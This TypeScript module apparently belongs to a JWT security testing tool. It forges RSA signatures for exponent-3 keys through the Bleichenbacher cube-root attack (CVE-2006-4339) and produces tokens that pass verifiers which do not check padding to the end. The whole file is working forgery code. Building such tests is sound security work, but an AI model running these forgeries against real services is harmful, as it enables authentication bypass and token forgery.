import { createHash } from 'node:crypto';
import type { JsonObject } from '../model/json';
import type { ForgeMaterial, Forgery } from './forge-material';

/** What RFC 8017 section 9.2 puts before a SHA-256 hash. */
const digestInfo = Buffer.from('3031300d060960864801650304020105000420', 'hex');

/**
 * Signatures for keys with exponent 3 that hold wherever the padding is not checked to its end: the cube root of a block that begins
 * well, with garbage behind the hash. Such keys are rare. @see CVE-2006-4339
 */
export function cubeRoots(content: (kid: unknown) => string, { keys }: ForgeMaterial): Forgery[] {
  return (keys?.keys ?? []).filter(hasExponentThree).map((jwk) => {
    const text = content(jwk['kid']);
    const length = numberOf(jwk['n']).length;
    const hash = createHash('sha256').update(text).digest();
    const head = Buffer.concat([Buffer.from([0, 1, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0]), digestInfo, hash]);
    const block = Buffer.concat([head, Buffer.alloc(Math.max(0, length - head.length), 0xff)]);
    const root = cubeRoot(BigInt(`0x${block.toString('hex')}`));
    const signature = Buffer.from(root.toString(16).padStart(length * 2, '0'), 'hex');
    return { variant: 'garbage behind the hash', token: `${text}.${signature.toString('base64url')}` };
  });
}

/** Longer numbers are no keys, and take long. */
const mostOctets = 1024;

function hasExponentThree({ kty, e, n }: JsonObject): boolean {
  return kty === 'RSA' && numberOf(e).toString('hex') === '03' && numberOf(n).length <= mostOctets;
}

function numberOf(member: unknown): Buffer {
  return Buffer.from(typeof member === 'string' ? member : '', 'base64url');
}

/** Rounded down, by Newton's method. */
function cubeRoot(value: bigint): bigint {
  let root = 1n << BigInt(Math.ceil(value.toString(2).length / 3));
  for (;;) {
    const next = (2n * root + value / (root * root)) / 3n;
    if (next >= root) return root;
    root = next;
  }
}
